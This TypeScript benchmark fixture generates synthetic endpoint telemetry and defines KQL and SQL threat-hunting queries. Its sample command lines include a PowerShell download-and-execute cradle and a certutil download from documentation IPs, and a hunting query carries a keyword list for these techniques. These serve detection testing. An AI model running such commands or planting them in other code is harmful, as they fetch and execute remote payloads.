/**
 * The store and the four hunting queries shared by bench/query-speed.ts (KQL vs hand-written SQL)
 * and bench/engines.ts (DuckDB vs chDB): 5,000,000 DeviceNetworkEvents and 1,000,000
 * DeviceProcessEvents generated with DuckDB SQL, cached in bench/out/ (git-ignored).
 */
import { createHash } from 'node:crypto';
import { mkdirSync, renameSync, rmSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { openStore } from '../src/store/index.js';

export const OUT = join(dirname(fileURLToPath(import.meta.url)), 'out');
export const DB = join(OUT, 'query-speed-v2.duckdb');

export const NET_ROWS = 5_000_000;
export const PROC_ROWS = 1_000_000;
const DEVICES = 2000;
export const NOW = new Date('2026-11-25T00:00:00Z');

// ---------------------------------------------------------------------------------------------
// Store

/** SQL picking one element of a list literal by a hash of (row, salt). */
const pick = (items: readonly string[], salt: number) =>
  `[${items.map((s) => `'${s.replaceAll("'", "''")}'`).join(', ')}][1 + CAST(hash(i, ${salt}) % ${items.length} AS BIGINT)]`;

export async function buildStore(): Promise<void> {
  mkdirSync(OUT, { recursive: true });
  const tmp = `${DB}.building`;
  for (const f of [DB, `${DB}.wal`, tmp, `${tmp}.wal`]) rmSync(f, { force: true });
  const t0 = performance.now();
  const store = await openStore(tmp);
  const c = store.connection;
  // Devices: d in [0, DEVICES); every 100th device is a noisy scanner.
  const dev = (salt: number) => `CAST(hash(i, ${salt}) % ${DEVICES} AS BIGINT)`;
  const files = ['chrome.exe', 'msedge.exe', 'svchost.exe', 'OneDrive.exe', 'Teams.exe', 'outlook.exe', 'powershell.exe', 'cmd.exe', 'python.exe', 'curl.exe'];
  const urls = ['www.bing.com', 'login.microsoftonline.com', 'outlook.office365.com', 'www.dropbox.com', 'drive.google.com', 'github.com',
    'update.microsoft.com', 'example.org', 'cdn.contoso.com', 'intranet.corp.contoso.com', '', ''];
  const users = ['jdoe', 'asmith', 'bwilson', 'cjones', 'dlee', 'svc_backup', 'emiller', 'fgarcia'];
  await c.run(`
    INSERT INTO DeviceNetworkEvents (Timestamp, DeviceId, DeviceName, ActionType, RemoteIP, RemotePort, RemoteUrl, LocalIP,
      LocalPort, Protocol, LocalIPType, RemoteIPType, InitiatingProcessFileName, InitiatingProcessId, InitiatingProcessCommandLine,
      InitiatingProcessFolderPath, InitiatingProcessAccountDomain, InitiatingProcessAccountName, ReportId)
    SELECT
      TIMESTAMP '2026-11-18 00:00:00' + to_microseconds(CAST(i * 120960 AS BIGINT)),
      md5('dev' || d), 'ws-' || d || '.corp.contoso.com',
      CASE WHEN d % 100 = 0 AND r < 40 THEN 'ConnectionFailed'
           WHEN r < 70 THEN 'ConnectionSuccess' WHEN r < 82 THEN 'ConnectionFailed' WHEN r < 90 THEN 'ConnectionAttempt'
           WHEN r < 95 THEN 'ConnectionRequest' ELSE 'InboundConnectionAccepted' END,
      CASE WHEN r % 3 = 0 THEN '10.' || (hash(i, 3) % 256) || '.' || (hash(i, 4) % 256) || '.' || (hash(i, 5) % 254 + 1)
           ELSE (hash(i, 6) % 223 + 1) || '.' || (hash(i, 7) % 256) || '.' || (hash(i, 8) % 256) || '.' || (hash(i, 9) % 254 + 1) END,
      CAST(CASE WHEN d % 100 = 0 AND r < 40 THEN 1 + hash(i, 10) % 1024 ELSE [443, 443, 443, 80, 445, 3389, 53, 135, 22, 8080][1 + CAST(hash(i, 11) % 10 AS BIGINT)] END AS INTEGER),
      ${pick(urls, 12)},
      '10.1.' || (d // 250) || '.' || (d % 250 + 1),
      CAST(49152 + hash(i, 13) % 16000 AS INTEGER), 'Tcp', 'Private', CASE WHEN r % 3 = 0 THEN 'Private' ELSE 'Public' END,
      ${pick(files, 14)}, CAST(1000 + hash(i, 15) % 60000 AS BIGINT), '', 'c:\\program files\\app\\', 'contoso',
      ${pick(users, 16)}, CAST(i AS BIGINT)
    FROM (SELECT i, ${dev(1)} AS d, CAST(hash(i, 2) % 100 AS BIGINT) AS r FROM range(${NET_ROWS}) AS t(i))`);
  const procFiles = ['svchost.exe', 'chrome.exe', 'conhost.exe', 'cmd.exe', 'powershell.exe', 'rundll32.exe', 'explorer.exe', 'msedge.exe',
    'git.exe', 'python.exe', 'pwsh.exe', 'certutil.exe', 'WINWORD.EXE', '7z.exe', 'robocopy.exe'];
  const args = ['', '/c dir', '-NoProfile -File C:\\Scripts\\inventory.ps1', '/c copy report.docx \\\\fs01\\share\\', '--type=renderer',
    '-ExecutionPolicy Bypass -File C:\\Users\\Public\\Temp\\run.ps1', '-enc SQBFAFgA', 'IEX (New-Object Net.WebClient).DownloadString(\'http://198.51.100.7/a\')',
    'status', 'C:\\Windows\\System32\\shell32.dll,Control_RunDLL', '-urlcache -f http://203.0.113.9/p.bin p.bin', 'a -tzip C:\\Temp\\out.zip C:\\Projects',
    '/c whoami /all', '--check', '-m pip install requests'];
  await c.run(`
    INSERT INTO DeviceProcessEvents (Timestamp, DeviceId, DeviceName, ActionType, FileName, FolderPath, ProcessId, ProcessCommandLine,
      AccountDomain, AccountName, InitiatingProcessFileName, InitiatingProcessId, InitiatingProcessAccountName, ReportId, SHA256)
    SELECT
      TIMESTAMP '2026-11-18 00:00:00' + to_microseconds(CAST(i * 604800 + 7 AS BIGINT)),
      md5('dev' || d), 'ws-' || d || '.corp.contoso.com', 'ProcessCreated', f,
      'C:\\Windows\\System32\\' || f, CAST(1000 + hash(i, 21) % 60000 AS BIGINT),
      -- command lines vary per run (ids, temp names), as real ones do
      f || CASE WHEN a = '' THEN '' ELSE ' ' || a END || CASE WHEN hash(i, 31) % 3 = 0 THEN ' /id:' || (hash(i, 32) % 1000000) ELSE '' END,
      'contoso', ${pick(users, 22)}, ${pick(['explorer.exe', 'services.exe', 'cmd.exe', 'winword.exe', 'powershell.exe'], 23)},
      CAST(1000 + hash(i, 24) % 60000 AS BIGINT), ${pick(users, 25)}, CAST(i AS BIGINT), md5(f)
    FROM (SELECT i, ${dev(26)} AS d,
            ${pick(procFiles, 27)} AS f,
            CASE WHEN hash(i, 28) % 100 < 6 THEN ${pick(args, 29)} ELSE ${pick(args.slice(0, 5), 30)} END AS a
          FROM range(${PROC_ROWS}) AS t(i))`);
  await c.run('CHECKPOINT');
  store.close();
  renameSync(tmp, DB); // only a complete store is ever cached
  process.stderr.write(`built ${DB} in ${((performance.now() - t0) / 1000).toFixed(1)} s\n`);
}

// ---------------------------------------------------------------------------------------------
// Queries

export interface Case { readonly id: string; readonly title: string; readonly kql: string; readonly sql: string }

export const CASES: readonly Case[] = [
  {
    id: 'a', title: 'failed connections: dcount(RemotePort) by DeviceId, bin(Timestamp, 5m)',
    kql: `DeviceNetworkEvents
| where Timestamp > ago(7d)
| where ActionType == "ConnectionFailed"
| summarize Ports = dcount(RemotePort), Failed = count() by DeviceId, Window = bin(Timestamp, 5m)
| where Ports >= 5`,
    sql: `SELECT DeviceId, time_bucket(INTERVAL 5 MINUTE, Timestamp) AS Window, count(DISTINCT RemotePort) AS Ports, count(*) AS Failed
FROM DeviceNetworkEvents
WHERE Timestamp > TIMESTAMP '2026-11-18 00:00:00' AND ActionType = 'ConnectionFailed'
GROUP BY ALL HAVING count(DISTINCT RemotePort) >= 5`,
  },
  {
    id: 'b', title: 'process filter: in~ and has_any on FileName/ProcessCommandLine',
    kql: `let Shells = dynamic(["powershell.exe", "pwsh.exe", "cmd.exe", "rundll32.exe", "certutil.exe"]);
let Suspicious = dynamic(["-enc", "bypass", "downloadstring", "http", "urlcache", "whoami"]);
DeviceProcessEvents
| where Timestamp > ago(7d)
| where FileName in~ (Shells)
| where ProcessCommandLine has_any (Suspicious)
| project Timestamp, DeviceName, AccountName, FileName, ProcessCommandLine`,
    sql: `SELECT Timestamp, DeviceName, AccountName, FileName, ProcessCommandLine
FROM DeviceProcessEvents
WHERE Timestamp > TIMESTAMP '2026-11-18 00:00:00'
  AND lower(FileName) IN ('powershell.exe', 'pwsh.exe', 'cmd.exe', 'rundll32.exe', 'certutil.exe')
  AND regexp_matches(lower(ProcessCommandLine), '(?:-enc|(?:^|[^0-9a-z])(?:bypass|downloadstring|http|urlcache|whoami))(?:$|[^0-9a-z])')`,
  },
  {
    id: 'c', title: 'summarize arg_max(Timestamp, *) by DeviceId',
    kql: `DeviceNetworkEvents
| summarize arg_max(Timestamp, *) by DeviceId`,
    sql: `SELECT DeviceId, COLUMNS(* EXCLUDE (DeviceId)) FROM DeviceNetworkEvents
QUALIFY row_number() OVER (PARTITION BY DeviceId ORDER BY Timestamp DESC) = 1`,
  },
  {
    id: 'd', title: 'join: shell with a URL in the command line, then a web connection within 2 minutes',
    kql: `let Procs = DeviceProcessEvents
    | where Timestamp > ago(7d)
    | where FileName in~ ("powershell.exe", "cmd.exe", "certutil.exe")
    | where ProcessCommandLine has "http"
    | project DeviceId, ProcTime = Timestamp, FileName, ProcessCommandLine;
let Conns = DeviceNetworkEvents
    | where Timestamp > ago(7d)
    | where ActionType == "ConnectionSuccess" and RemotePort in (80, 443)
    | where InitiatingProcessFileName in~ ("powershell.exe", "cmd.exe", "certutil.exe")
    | project DeviceId, NetTime = Timestamp, RemoteIP, RemoteUrl;
Procs
| join kind=inner Conns on DeviceId
| where NetTime between (ProcTime .. 2m)
| project DeviceId, ProcTime, NetTime, FileName, ProcessCommandLine, RemoteIP, RemoteUrl`,
    sql: `SELECT p.DeviceId, p.Timestamp AS ProcTime, n.Timestamp AS NetTime, p.FileName, p.ProcessCommandLine, n.RemoteIP, n.RemoteUrl
FROM DeviceProcessEvents p JOIN DeviceNetworkEvents n ON p.DeviceId = n.DeviceId
WHERE p.Timestamp > TIMESTAMP '2026-11-18 00:00:00' AND n.Timestamp > TIMESTAMP '2026-11-18 00:00:00'
  AND lower(p.FileName) IN ('powershell.exe', 'cmd.exe', 'certutil.exe')
  AND regexp_matches(lower(p.ProcessCommandLine), '(?:^|[^0-9a-z])http(?:$|[^0-9a-z])')
  AND n.ActionType = 'ConnectionSuccess' AND n.RemotePort IN (80, 443)
  AND lower(n.InitiatingProcessFileName) IN ('powershell.exe', 'cmd.exe', 'certutil.exe')
  AND n.Timestamp BETWEEN p.Timestamp AND p.Timestamp + INTERVAL 2 MINUTE`,
  },
];

// ---------------------------------------------------------------------------------------------
// Result comparison: values normalised (datetimes to epoch µs, numbers to one form), rows sorted.

const ISO = /^(\d{4})-(\d\d)-(\d\d)[T ](\d\d):(\d\d):(\d\d)(?:\.(\d{1,9}))?Z?$/;

function norm(v: unknown): string {
  if (v === null || v === undefined) return 'null';
  if (typeof v === 'bigint' || typeof v === 'number') return `n${Number(v)}`;
  if (typeof v === 'boolean') return `b${v}`;
  if (typeof v === 'object' && v !== null && 'micros' in v) return `t${(v as { micros: bigint }).micros}`;
  if (typeof v === 'string') {
    const m = ISO.exec(v);
    if (m) {
      const ms = Date.UTC(+m[1]!, +m[2]! - 1, +m[3]!, +m[4]!, +m[5]!, +m[6]!);
      const frac = (m[7] ?? '').padEnd(6, '0').slice(0, 6);
      return `t${BigInt(ms) * 1000n + BigInt(frac)}`;
    }
    return `s${v}`;
  }
  return `j${JSON.stringify(v, (_k, x) => (typeof x === 'bigint' ? Number(x) : x))}`;
}

export function checksum(rows: readonly (readonly unknown[])[]): string {
  const lines = rows.map((r) => r.map(norm).join('\u0001')).sort();
  return createHash('sha256').update(lines.join('\n')).digest('hex').slice(0, 16);
}

